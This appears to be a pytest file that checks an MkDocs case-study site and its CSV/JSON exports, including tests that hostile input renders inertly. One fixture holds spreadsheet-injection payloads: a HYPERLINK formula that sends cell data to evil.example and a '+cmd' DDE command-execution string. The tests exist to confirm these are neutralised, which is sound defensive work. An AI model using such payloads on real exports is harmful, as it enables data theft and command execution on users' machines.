"""Case-study pages, the case index and the data exports of a fork's build.

Expectations are read from the YAML files themselves, so every published case
is checked field by field; a few hand-written values (country names, the
Lyon period and metric) pin the formats.
"""

from __future__ import annotations

import csv
import io
import json
import posixpath
import re
import shutil
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup, Tag

from alliance_playbook.model.enums import (
    ALLIANCE_FORM_LABELS,
    PARTNER_ROLE_LABELS,
    PARTNER_TYPE_LABELS,
    POLICY_AREA_LABELS,
    SCOPE_LABELS,
    SECTOR_LABELS,
    SECTOR_OF_PARTNER_TYPE,
)
from conftest import FIXTURES, copy_project, run_mkdocs

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# The countries of the fixtures, by hand: pages must show the name, not the code.
COUNTRY_NAMES = {"FR": "France", "JP": "Japan", "KE": "Kenya"}


# ----- helpers --------------------------------------------------------------------------
def _yaml_files(folder: Path) -> dict[str, dict]:
    return {p.stem: yaml.safe_load(p.read_text(encoding="utf-8")) for p in sorted(folder.glob("*.yml"))}


@pytest.fixture(scope="module")
def cases(fork_project: Path) -> dict[str, dict]:
    """The published case studies of the fork, as written in YAML."""
    every = _yaml_files(fork_project / "casestudies")
    assert "draft-case" in every and every["draft-case"]["status"] == "draft"
    return {k: v for k, v in every.items() if v.get("status", "published") == "published"}


@pytest.fixture(scope="module")
def titles(fork_project: Path) -> dict[str, dict[str, str]]:
    """Titles by kind, to expand [[kind:id]] links the way the site does."""
    content = fork_project / "content"
    steps = _yaml_files(content / "playbook/steps")
    return {
        "lesson": {k: v["title"] for k, v in _yaml_files(content / "lessons").items()},
        "step": {k: v["title"] for k, v in steps.items()},
        "worksheet": {k: v["title"] for k, v in _yaml_files(content / "worksheets").items()},
        "case": {k: v["title"] for k, v in _yaml_files(fork_project / "casestudies").items()},
        "phase": {p["id"]: p["title"] for p in yaml.safe_load((content / "playbook/phases.yml").read_text(encoding="utf-8"))},
        "_phase_of": {k: v["phase"] for k, v in steps.items()},
    }


def page(site: Path, url: str) -> BeautifulSoup:
    return BeautifulSoup((site / url / "index.html").read_text(encoding="utf-8"), "html.parser")


def text(el: Tag | None) -> str:
    assert el is not None
    return squash(el.get_text(" "))


def cell_text(td: Tag) -> str:
    """A table cell's own text, without the muted second line (a metric's description)."""
    own = [str(s) for s in td.find_all(string=True) if not s.find_parent(class_="ap-muted")]
    return squash(" ".join(own))


def squash(value: str) -> str:
    """Whitespace-normalised text, with spaces before punctuation dropped (get_text(" ") adds them)."""
    return re.sub(r"\s+([,.;:!?)])", r"\1", " ".join(str(value).split()))


def resolve(page_url: str, href: str) -> str:
    """A relative link on ``page_url`` (a directory URL) -> a site path like ``lessons/x/``."""
    joined = posixpath.normpath(posixpath.join(page_url, href))
    return joined + ("/" if href.endswith("/") else "")


def section(soup: BeautifulSoup, heading_id: str) -> list[Tag]:
    """The elements after the h2 with this id, up to the next h2."""
    h2 = soup.find("h2", id=heading_id)
    assert h2 is not None, f"no section #{heading_id}"
    out = []
    for sib in h2.find_next_siblings():
        if sib.name == "h2":
            break
        out.append(sib)
    return out


def facts(soup: BeautifulSoup) -> dict[str, str]:
    dl = soup.select_one("article dl.ap-facts")
    assert dl is not None
    return {text(dt): text(dt.find_next_sibling("dd")) for dt in dl.find_all("dt")}


def num(value: float) -> str:
    if float(value).is_integer():
        return f"{int(value):,}"
    return f"{value:,.2f}".rstrip("0").rstrip(".")


def signed(value: float) -> str:
    return ("+" if value > 0 else "") + num(value)


def plain_markdown(source: str, titles: dict[str, dict[str, str]]) -> str:
    """What Markdown prose reads like once rendered (for the simple Markdown of the fixtures)."""
    def link(m: re.Match) -> str:
        return m.group(4) if m.group(4) is not None else titles[m.group(1)][m.group(2)]

    out = re.sub(r"\[\[(\w+):([a-z0-9-]+)(\|([^\]]*))?\]\]", link, source)
    return squash(out.replace("**", ""))


def is_plain(value: str) -> bool:
    return not re.search(r"[<>&`*_\[\]#]", value)


# ----- one page per published case, every field shown ----------------------------------
def test_every_published_case_has_a_page_showing_every_field(fork_site: Path, cases: dict, titles: dict):
    assert {"alliance-eau-de-lyon", "kyoto-machizukuri", "minimal-case", "twelve-partner-coalition", "hostile-case"} <= set(cases)
    for cid, case in cases.items():
        url = f"casestudies/{cid}/"
        soup = page(fork_site, url)
        article = soup.select_one("article")
        assert text(article.find("h1")) == squash(case["title"]), cid
        assert text(article.select_one(".ap-case .ap-lead")) == squash(case["summary"]), cid

        f = facts(soup)
        assert f["Policy areas"] == ", ".join(POLICY_AREA_LABELS[a] for a in case["policy_areas"]), cid
        if case.get("alliance_form"):
            assert f["Alliance form"] == ALLIANCE_FORM_LABELS[case["alliance_form"]], cid
        else:
            assert "Alliance form" not in f
        loc = case.get("location") or {}
        for key in ("city", "region"):
            if loc.get(key):
                assert squash(loc[key]) in f["Place"], (cid, key)
        if loc.get("country"):
            assert COUNTRY_NAMES[loc["country"]] in f["Place"] and loc["country"] not in f["Place"].split(), cid
        if loc.get("scope"):
            assert SCOPE_LABELS[loc["scope"]] in f["Place"], cid
        if not loc:
            assert "Place" not in f
        period = case.get("period") or {}
        if period:
            for key in ("start", "end"):
                if period.get(key):
                    assert str(period[key]) in f["Period"], (cid, key)
            assert ("ongoing" in f["Period"]) == bool(period.get("ongoing")), cid
        else:
            assert "Period" not in f
        sectors = {SECTOR_OF_PARTNER_TYPE[p["type"]] for p in case["partners"]}
        from_sectors = "one sector" if len(sectors) == 1 else f"{len(sectors)} sectors"
        assert f["Partners"] == f"{len(case['partners'])} partners from {from_sectors}", cid
        if case.get("last_reviewed"):
            assert f["Last reviewed"] == str(case["last_reviewed"]), cid

        # Partners: one row each, labels not ids.
        rows = article.select("table.ap-partners tbody tr")
        assert len(rows) == len(case["partners"]), cid
        for row, partner in zip(rows, case["partners"]):
            assert [text(td) if td.get_text().strip() else "" for td in row.find_all("td")] == [
                squash(partner["name"]), PARTNER_TYPE_LABELS[partner["type"]], SECTOR_LABELS[SECTOR_OF_PARTNER_TYPE[partner["type"]]],
                PARTNER_ROLE_LABELS.get(partner.get("role"), ""), squash(partner.get("contribution", "")),
            ], cid
        mix = article.select_one("svg.ap-sector-chart")
        counts = {s: sum(1 for p in case["partners"] if SECTOR_OF_PARTNER_TYPE[p["type"]] == s) for s in sectors}
        if len(set(counts.values())) == 1:
            # Equal bars would say nothing the partner table does not: no chart.
            assert mix is None, cid
        else:
            assert mix is not None and mix.get("role") == "img" and mix.find("title") is not None, cid
            for s, n in counts.items():
                assert f"{SECTOR_LABELS[s]}: {n}" in text(mix.find("desc")), cid

        # Outcomes: metrics table and chart, the rest as a list.
        outcomes_text = squash(" ".join(text(el) for el in section(soup, "outcomes")))
        metrics = [o for o in case["outcomes"] if o.get("result") is not None]
        if metrics:
            mrows = article.select("table.ap-metrics tbody tr")
            assert len(mrows) == len(metrics), cid
            for row, o in zip(mrows, metrics):
                cells = [cell_text(td) if td.get_text().strip() else "" for td in row.find_all("td")]
                if o.get("indicator") and o["indicator"] != o["description"]:
                    assert text(row.td.select_one(".ap-muted")) == squash(o["description"]), cid
                change = o["result"] - o["baseline"] if o.get("baseline") is not None else None
                relative = f"{signed(round(change / abs(o['baseline']) * 100, 1))}%" if o.get("baseline") else ""
                assert cells == [
                    squash(o.get("indicator") or o["description"]), num(o["baseline"]) if o.get("baseline") is not None else "",
                    num(o["result"]), signed(change) if change is not None else "", relative, squash(o.get("unit", "")),
                    str(o.get("as_of", "")),
                ], cid
            chart = article.select_one("svg.ap-metrics-chart")
            assert chart is not None and chart.get("role") == "img", cid
            for o in metrics:
                assert squash(o.get("indicator") or o["description"]) in text(chart.find("desc")), cid
        else:
            assert article.select_one("table.ap-metrics") is None and article.select_one("svg.ap-metrics-chart") is None
        for o in case["outcomes"]:
            assert squash(o["description"]) in outcomes_text, (cid, o["description"])
        qualitative = [squash(o["description"]) for o in case["outcomes"] if o.get("result") is None]
        assert [text(li) for li in article.select("ul.ap-outcomes > li")] == [
            q + (f" ({o['as_of']})" if o.get("as_of") else "") for q, o in zip(qualitative, [o for o in case["outcomes"] if o.get("result") is None])
        ], cid

        # Voices.
        quotes = article.select("figure.ap-quote")
        assert [(text(q.blockquote), text(q.figcaption)) for q in quotes] == [
            (squash(v["quote"]), squash(v["source"])) for v in case.get("feedback") or []
        ], cid

        # Lessons with their notes; steps applied.
        items = article.select("ul.ap-lessons > li")
        assert len(items) == len(case["lessons"]), cid
        for li, ref in zip(items, case["lessons"]):
            lid = ref if isinstance(ref, str) else ref["lesson"]
            a = li.find("a")
            assert resolve(url, a["href"]) == f"lessons/{lid}/" and text(a) == squash(titles["lesson"][lid]), cid
            assert (fork_site / f"lessons/{lid}/index.html").is_file()
            note = None if isinstance(ref, str) else ref.get("note")
            note_el = li.select_one(".ap-note")
            assert (note_el is not None) == bool(note), cid
            if note and is_plain(note):
                assert text(note_el) == squash(note), cid
        step_links = article.select("ul.ap-steps > li > a")
        assert [resolve(url, a["href"]) for a in step_links] == [
            f"playbook/{titles['_phase_of'][s]}/{s}/" for s in case.get("steps") or []
        ], cid
        assert [text(a) for a in step_links] == [squash(titles["step"][s]) for s in case.get("steps") or []], cid
        for a in step_links:
            assert (fork_site / resolve(url, a["href"]) / "index.html").is_file()

        # Challenge and approach: rendered Markdown, every paragraph there.
        if cid != "hostile-case":
            for field in ("challenge", "approach"):
                rendered = squash(text(article.find("h2", id=field).find_next_sibling("div", class_="ap-md")))
                for para in case[field].split("\n\n"):
                    assert plain_markdown(para, titles) in rendered, (cid, field)

        # Sources, contributors, tags, edit link.
        sources = article.select(".ap-sources li a")
        assert [(a["href"], text(a)) for a in sources] == [(s["url"], squash(s["title"])) for s in case.get("sources") or []], cid
        for a in sources:
            assert "noopener" in a.get("rel", [])
        if case.get("contributors"):
            assert text(article.select_one(".ap-sources p")) == "Contributors: " + ", ".join(squash(c) for c in case["contributors"])
        # The theme sorts tags.
        assert sorted(text(t) for t in article.select(".md-tags .md-tag")) == sorted(squash(t) for t in case.get("tags") or []), cid
        edit = article.select_one("a.md-content__button[rel~=edit]")
        assert edit is not None and edit["href"].endswith(f"/casestudies/{cid}.yml"), cid

        # Related case studies: real published cases, never itself.
        related = article.find("h2", id="related-case-studies")
        if related is not None:
            links = related.find_next_sibling("ul").select("a")
            targets = [resolve(url, a["href"]) for a in links]
            assert targets and url not in targets
            assert {t.split("/")[1] for t in targets} <= set(cases), cid


def test_formats_of_the_fork_cases(fork_site: Path):
    """Country names (not codes), the period wording and the change columns."""
    lyon = page(fork_site, "casestudies/alliance-eau-de-lyon/")
    f = facts(lyon)
    assert f["Place"] == "Lyon, Auvergne-Rhône-Alpes, France · Metropolitan"
    assert f["Period"] == "since 2016, ongoing"
    assert f["Alliance form"] == "Co-governance body"
    assert f["Policy areas"] == "Water and sanitation, Governance"
    assert f["Partners"] == "2 partners from 2 sectors"
    assert f["Last reviewed"] == "2026-10-01"
    row = [cell_text(td) for td in lyon.select("table.ap-metrics tbody tr")[0].find_all("td")]
    assert row[:5] == ["Eau perdue", "24.5", "17.25", "-7.25", "-29.6%"]
    assert "Japan" in facts(page(fork_site, "casestudies/kyoto-machizukuri/"))["Place"]
    kenya = facts(page(fork_site, "casestudies/twelve-partner-coalition/"))
    assert kenya["Place"] == "Mombasa County, Kenya · Regional"
    assert kenya["Period"] == "2015-01 – 2020"
    assert "JP" not in facts(page(fork_site, "casestudies/kyoto-machizukuri/"))["Place"]
    minimal = page(fork_site, "casestudies/minimal-case/")
    assert set(facts(minimal)) == {"Policy areas", "Partners"}
    assert minimal.select_one("table.ap-metrics") is None


# ----- drafts and the index -------------------------------------------------------------
def test_the_draft_appears_nowhere(fork_site: Path):
    assert not (fork_site / "casestudies/draft-case").exists()
    for path in fork_site.rglob("*"):
        if path.is_file() and path.suffix in (".html", ".json", ".csv", ".xml", ".js", ".txt"):
            body = path.read_text(encoding="utf-8", errors="replace")
            assert "draft-case" not in body and "Unfinished draft alliance" not in body, path
    data = json.loads((fork_site / "data/playbook.json").read_text(encoding="utf-8"))
    assert "draft-case" not in {c["id"] for c in data["casestudies"]}
    rows = list(csv.DictReader(io.StringIO((fork_site / "data/casestudies.csv").read_text(encoding="utf-8"))))
    assert "draft-case" not in {r["id"] for r in rows}


def test_index_lists_exactly_the_published_cases(fork_site: Path, cases: dict):
    index = page(fork_site, "casestudies/")
    cards = index.select("li.ap-case-card")
    hrefs = [resolve("casestudies/", c.select_one("h2 a")["href"]) for c in cards]
    assert sorted(hrefs) == sorted(f"casestudies/{cid}/" for cid in cases)
    form = index.select_one("form.ap-filters")
    # Without JavaScript the filters stay hidden and every card shows.
    assert form is not None and form.has_attr("hidden")
    assert not any(c.has_attr("hidden") for c in cards)
    assert index.select_one(".ap-result-count[role=status]") is not None
    by_id = {h.split("/")[1]: c for h, c in zip(hrefs, cards)}
    lyon = by_id["alliance-eau-de-lyon"]
    assert lyon["data-area"].split() == ["water-sanitation", "governance"]
    assert lyon["data-country"] == "FR" and lyon["data-scope"] == "metropolitan"
    assert set(lyon["data-ptype"].split()) == {"local-government", "community-group"}
    assert text(lyon.select_one(".ap-meta")).startswith("Lyon, Auvergne-Rhône-Alpes, France · Metropolitan · Water and sanitation")
    for cid, case in cases.items():
        card = by_id[cid]
        assert set(card["data-ptype"].split()) == {p["type"] for p in case["partners"]}
        assert text(card.select_one(".ap-meta")).endswith(f"{len(case['partners'])} partners")
        # No dangling separator when a case has no place (e.g. only a scope).
        assert not text(card.select_one(".ap-meta")).startswith("·")
    # Every facet group is labelled; each option is a checkbox with a count slot.
    for group in form.select("details.ap-facet"):
        assert text(group.summary) and text(group.select_one("fieldset legend")) == text(group.summary)
        for box in group.select("input[type=checkbox]"):
            assert box["name"] == group["data-facet"] and box.find_parent("label").select_one(".ap-count[data-count]") is not None
    areas = {b["value"] for b in form.select("details[data-facet=area] input")}
    assert areas == {a for c in cases.values() for a in c["policy_areas"]}


# ----- hostile content stays text ---------------------------------------------------------
def _attribute_problems(soup: BeautifulSoup) -> list[str]:
    problems = []
    for el in soup.find_all(True):
        for name, value in el.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name.lower().startswith("on"):
                problems.append(f"<{el.name} {name}>")
            if re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith(("javascript:", "data:")):
                problems.append(f"<{el.name} {name}={value[:40]}>")
    return problems


def _script_problems(soup: BeautifulSoup) -> list[str]:
    problems = []
    for script in soup.find_all("script"):
        body = script.string or ""
        if script.get("type") == "application/ld+json":
            if "<" in body:
                problems.append("JSON-LD could close its script element")
            json.loads(body)
        elif "alert" in body:
            problems.append(f"script runs: {body[:60]}")
        src = script.get("src", "")
        if src and "/assets/" not in "/" + posixpath.normpath(src):
            problems.append(f"script from {src}")
    return problems


def test_hostile_case_page_is_inert(fork_site: Path, cases: dict):
    soup = page(fork_site, "casestudies/hostile-case/")
    article = soup.select_one("article")
    assert _attribute_problems(soup) == []
    assert _script_problems(soup) == []
    assert article.find_all("script") == []
    assert article.find_all(["iframe", "object", "embed", "form", "style", "img", "input"]) == []
    # The text is shown as written, not interpreted.
    hostile = cases["hostile-case"]
    assert text(article.find("h1")) == hostile["title"]
    assert hostile["title"] in soup.head.title.get_text()
    assert text(article.select("table.ap-partners tbody tr")[0].td) == hostile["partners"][0]["name"]
    assert text(article.select_one("figure.ap-quote blockquote")) == hostile["feedback"][0]["quote"]
    # Markdown links to javascript: or data: lose their target but keep their text.
    assert "link" in text(article.find("h2", id="challenge").find_next_sibling("div"))


def test_no_page_of_the_site_carries_script_attributes_or_urls(fork_site: Path):
    """The hostile case also shows up on the index, its lessons' pages and the explore map."""
    pages = list(fork_site.rglob("*.html"))
    assert len(pages) > 30
    for path in pages:
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        assert _attribute_problems(soup) == [], path
        assert _script_problems(soup) == [], path


def test_json_ld_of_every_case(fork_site: Path, cases: dict):
    for cid, case in cases.items():
        soup = page(fork_site, f"casestudies/{cid}/")
        blocks = soup.head.find_all("script", type="application/ld+json")
        assert soup.body.find_all("script", type="application/ld+json") == []
        assert len(blocks) == 1, cid
        data = json.loads(blocks[0].string)
        assert data["@type"] == "Article" and data["headline"] == case["title"], cid
        assert data["description"] == case["summary"]
        assert [c["name"] for c in data["contributor"]] == [p["name"] for p in case["partners"]]


# ----- data exports ------------------------------------------------------------------------
def test_playbook_json_agrees_with_the_yaml(fork_site: Path, cases: dict):
    data = json.loads((fork_site / "data/playbook.json").read_text(encoding="utf-8"))
    assert isinstance(data["schema_version"], int)
    exported = {c["id"]: c for c in data["casestudies"]}
    assert set(exported) == set(cases)
    for cid, case in cases.items():
        assert exported[cid]["title"] == case["title"]
        assert len(exported[cid]["partners"]) == len(case["partners"])
        assert exported[cid]["url"] == f"casestudies/{cid}/"
        assert (fork_site / exported[cid]["url"] / "index.html").is_file()
        assert exported[cid]["policy_areas"] == case["policy_areas"]
    # Nothing of the machine that built it leaks into the data.
    assert str(fork_site.parent) not in (fork_site / "data/playbook.json").read_text(encoding="utf-8")


def _csv_rows(site: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((site / "data/casestudies.csv").read_text(encoding="utf-8"), newline="")))


def test_casestudies_csv_has_one_row_per_published_case(fork_site: Path, cases: dict):
    rows = _csv_rows(fork_site)
    assert [r["id"] for r in rows].count("alliance-eau-de-lyon") == 1
    assert sorted(r["id"] for r in rows) == sorted(cases)
    by_id = {r["id"]: r for r in rows}
    for cid, case in cases.items():
        assert by_id[cid]["title"] == case["title"]
        assert by_id[cid]["partners"].count("; ") == len(case["partners"]) - 1
    assert by_id["kyoto-machizukuri"]["city"] == "京都市"
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_START), (row["id"], value)


@pytest.fixture(scope="module")
def variant(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict]:
    """The fork with spreadsheet formulas in the hostile case, plus a one-sector case."""
    project = copy_project(tmp_path_factory.mktemp("variant") / "project")
    for src in (FIXTURES / "fork").rglob("*.yml"):
        target = project / src.relative_to(FIXTURES / "fork")
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(src, target)
    path = project / "casestudies/hostile-case.yml"
    case = yaml.safe_load(path.read_text(encoding="utf-8"))
    case["title"] = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    case["summary"] = "+cmd|' /C calc'!A0"
    case["location"] = {"region": "-2+3", "city": "@SUM(A1:A9)"}
    case["tags"] = ["=1+1", "safe"]
    path.write_text(yaml.safe_dump(case, allow_unicode=True), encoding="utf-8")
    (project / "casestudies/one-sector-case.yml").write_text(
        "title: One-sector case\nsummary: Two councils.\npolicy_areas: [governance]\n"
        "partners:\n  - {name: North council, type: local-government}\n  - {name: South council, type: local-government}\n"
        "challenge: A.\napproach: B.\noutcomes:\n  - description: C\nlessons: [align-core-values]\n",
        encoding="utf-8",
    )
    run_mkdocs(project)
    return project / "site", case


def test_formula_cells_of_a_hostile_case_are_neutralised(variant):
    site, case = variant
    row = {r["id"]: r for r in _csv_rows(site)}["hostile-case"]
    assert row["title"] == "'" + case["title"]
    assert row["summary"] == "'" + case["summary"]
    assert row["region"] == "'-2+3" and row["city"] == "'@SUM(A1:A9)"
    assert row["tags"] == "'=1+1; safe"
    # The page itself shows the text unchanged.
    assert text(page(site, "casestudies/hostile-case/").select_one("article h1")) == case["title"]


def test_partner_count_wording_with_one_sector(variant):
    site, _case = variant
    assert facts(page(site, "casestudies/one-sector-case/"))["Partners"] == "2 partners from one sector"


def test_case_language_marks_the_case_text(fork_site: Path):
    kyoto = page(fork_site, "casestudies/kyoto-machizukuri/")
    assert kyoto.select_one("p.ap-lead")["lang"] == "ja"
    assert kyoto.select_one("table.ap-partners tbody")["lang"] == "ja"
    # Interface labels stay in the site's language.
    assert kyoto.find("h2", id="partners").get("lang") is None
    index = page(fork_site, "casestudies/")
    langs = {li.select_one("h2 a")["href"].rstrip("/").split("/")[-1]: li.get("lang") for li in index.select("li.ap-case-card")}
    assert langs["kyoto-machizukuri"] == "ja" and langs["alliance-eau-de-lyon"] == "fr" and langs["minimal-case"] is None
